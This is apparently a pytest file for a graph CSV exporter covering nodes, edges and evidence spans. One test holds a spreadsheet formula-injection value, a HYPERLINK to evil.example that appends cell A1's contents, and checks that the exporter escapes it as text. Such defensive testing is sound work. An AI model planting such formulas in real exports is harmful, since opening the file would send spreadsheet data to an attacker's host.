"""CSV export read back with the csv module: a row for every node and edge, evidence in one column."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

from graph.export import Edge, Evidence, Node, Subgraph
from graph.export import csv as csv_export
from tests.api.planted import HUB_EMAIL, PHONE_A


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_node_and_edge_has_its_row(network_a: Subgraph) -> None:
    files = csv_export.files(network_a)
    nodes = {row["id"]: row for row in rows(files["nodes.csv"])}
    assert len(nodes) == len(network_a.nodes) == len(rows(files["nodes.csv"]))
    for node in network_a.nodes:
        row = nodes[node.id]
        assert (row["kind"], csv_export.unescape(row["label"])) == (node.kind, node.label)
        assert nodes[node.id]["hub"] == ("true" if node.properties["hub"] else "false")
    edges = {row["id"]: row for row in rows(files["edges.csv"])}
    assert len(edges) == len(network_a.edges) == len(rows(files["edges.csv"]))
    for edge in network_a.edges:
        row = edges[edge.id]
        assert (row["source"], row["target"], row["type"]) == (edge.source, edge.target, edge.type)
        assert row["source"] in nodes and row["target"] in nodes
        if edge.evidence:
            spans = json.loads(row["evidence"])
            text = csv_export.unescape(nodes[edge.source]["text"])
            assert [text[s["start"] : s["end"]] for s in spans] == [e.value for e in edge.evidence]
            assert csv_export.unescape(row["evidence_values"]) == "; ".join(e.value for e in edge.evidence)
            assert int(row["count"]) == edge.properties["count"]
        else:
            assert row["evidence"] == ""
    (network,) = rows(files["networks.csv"])
    assert network["id"] == network_a.networks[0]["id"]


def test_cells_are_plain(network_a: Subgraph) -> None:
    nodes = {row["id"]: row for row in rows(csv_export.files(network_a)["nodes.csv"])}
    assert nodes[HUB_EMAIL]["hub"] == "true" and nodes[HUB_EMAIL]["hub_reason"]
    assert nodes[PHONE_A]["countries"] == "GB" and nodes[PHONE_A]["network"] == network_a.networks[0]["id"]
    assert nodes["advert:instagram:a2"]["text"].startswith("رحلة إلى بريطانيا")


def test_a_folder_a_zip_path_and_a_stream_hold_the_same_files(network_a: Subgraph, tmp_path: Path) -> None:
    expected = csv_export.files(network_a)
    csv_export.write(network_a, tmp_path / "folder")
    assert {p.name: p.read_bytes() for p in (tmp_path / "folder").iterdir()} == expected
    csv_export.write(network_a, tmp_path / "export.zip")
    with zipfile.ZipFile(tmp_path / "export.zip") as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == expected
    stream = io.BytesIO()
    csv_export.write(network_a, stream)
    with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == expected


def test_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
    text = '=HYPERLINK("http://evil.example/?"&A1,"Boat to UK") call +44 7400 123456'
    advert = Node("advert:x:1", "Advert", "@boat", {"hub": False, "text": text, "region": "-1+1"})
    phone = Node("phone:+447400123456", "Phone", "+447400123456", {"hub": False, "e164": "+447400123456"})
    start = text.index("+44")
    evidence = Evidence(advert.id, text, start, start + 15, "+44 7400 123456")
    mention = Edge(
        f"MENTIONS:{advert.id}->{phone.id}", advert.id, phone.id, "MENTIONS", {"count": 1}, (evidence,)
    )
    subgraph = Subgraph("t", (advert, phone), (mention,), (), False)
    files = csv_export.files(subgraph)
    nodes = {row["id"]: row for row in rows(files["nodes.csv"])}
    (edge,) = rows(files["edges.csv"])
    written = [nodes[advert.id]["text"], nodes[advert.id]["label"], nodes[advert.id]["region"]]
    written.append(edge["evidence_values"])
    assert all(cell.startswith("'") for cell in written)
    assert nodes[phone.id]["e164"] == "+447400123456"
    plain = csv_export.unescape(nodes[advert.id]["text"])
    assert plain == text
    assert plain[start : start + 15] == "+44 7400 123456"
    assert csv_export.unescape("''quoted") == "'quoted"
    assert rows(csv_export.table(["a"], [{"a": "'quoted"}]))[0]["a"] == "''quoted"
